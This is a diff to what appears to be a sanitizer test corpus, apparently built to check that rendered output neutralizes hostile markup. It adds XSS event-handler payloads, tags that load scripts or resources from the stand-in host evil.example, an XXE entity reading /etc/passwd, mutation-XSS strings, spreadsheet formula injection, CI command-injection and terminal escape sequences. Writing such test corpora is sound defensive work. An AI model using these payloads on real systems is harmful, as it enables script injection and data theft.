@@ -132,7 +132,90 @@ UNICODE = (
     "null",
     "../../etc/passwd",
 )
-CORPUS = HTML + TEMPLATES + CSS + MARKDOWN + TABLES + TERMINAL + UNICODE
+# Every handler on elements that fire it by themselves, in quotes of each kind, and addresses that would be fetched.
+HANDLERS = tuple(
+    f"{quote}><{tag} {event}={RUN}{end}"
+    for quote in ("", '"', "'")
+    for tag, event, end in (
+        ("img src=x", "onerror", ">"),
+        ("svg", "onload", "/>"),
+        ("body", "onpageshow", ">"),
+        ("audio src=x", "onerror", ">"),
+        ("video src=x", "onerror", ">"),
+        ("input autofocus", "onfocus", ">"),
+        ("select autofocus", "onfocus", ">"),
+        ("textarea autofocus", "onfocus", ">"),
+        ("details open", "ontoggle", ">"),
+        ("marquee", "onstart", ">"),
+        ("style", "onload", ">"),
+        ("link rel=stylesheet href=x", "onerror", ">"),
+        ("iframe src=about:blank", "onload", ">"),
+        ("object data=x", "onerror", ">"),
+        ("embed src=x", "onload", ">"),
+        ("track src=x default", "onerror", ">"),
+        ("p style=animation:x", "onanimationstart", ">"),
+        ("p style=transition:1s", "ontransitionend", ">"),
+    )
+)
+FETCHES = tuple(
+    form.format("https://evil.example/p")
+    for form in (
+        "<img srcset='{0} 1x'>",
+        "<picture><source srcset={0}></picture>",
+        "<image href={0}>",
+        "<svg><use href='{0}#x'/></svg>",
+        "<svg><image xlink:href={0} /></svg>",
+        "<svg><feImage href={0} /></svg>",
+        "<svg style='fill:url({0})'>",
+        "<table background={0}>",
+        "<input type=image src={0}>",
+        "<video poster={0}>",
+        "<audio src={0} autoplay>",
+        "<embed src={0}>",
+        "<object data={0}>",
+        "<iframe src={0}>",
+        "<link rel=preload as=image href={0}>",
+        "<link rel=prefetch href={0}>",
+        "<link rel=icon href={0}>",
+        "<script src={0}></script>",
+        "<script type=module>import '{0}'</script>",
+        "<style>@font-face{{font-family:x;src:url({0})}}*{{font-family:x}}</style>",
+        "<style>*{{background:url({0})}}</style>",
+        "<div style=background:url({0})>",
+        "<meta http-equiv=refresh content='0;{0}'>",
+        "<a ping={0} href=#verdict>x</a>",
+        "<form action={0} method=post>",
+        "<body background={0}>",
+        "<applet code={0}>",
+        "<bgsound src={0}>",
+        "<manifest href={0}>",
+        "<math href={0}>x</math>",
+    )
+)
+MORE = (
+    "]]><script>1</script>",
+    "--!><script>1</script>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "</pre></div></details>",
+    "</svg></figure>",
+    "<svg><title><p>x",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=1&gt;'>",
+    "\u003cscript\u003e",
+    '{"__proto__": {}}',
+    "\u2028</script>",
+    "#verdict",
+    "id=verdict",
+    "%3Cscript%3E",
+    "javascript&colon;1",
+    "\x1b]0;title\x07",
+    "::set-output name=x::y",
+    "##vso[task.setvariable]x",
+    "=cmd|' /C calc'!A0",
+    "+ADw-script+AD4-",
+    "\ufe0f\u20e3",
+    "\u0000\u0001",
+)
+CORPUS = HTML + HANDLERS + FETCHES + MORE + TEMPLATES + CSS + MARKDOWN + TABLES + TERMINAL + UNICODE
 
 
 _KEPT = frozenset(
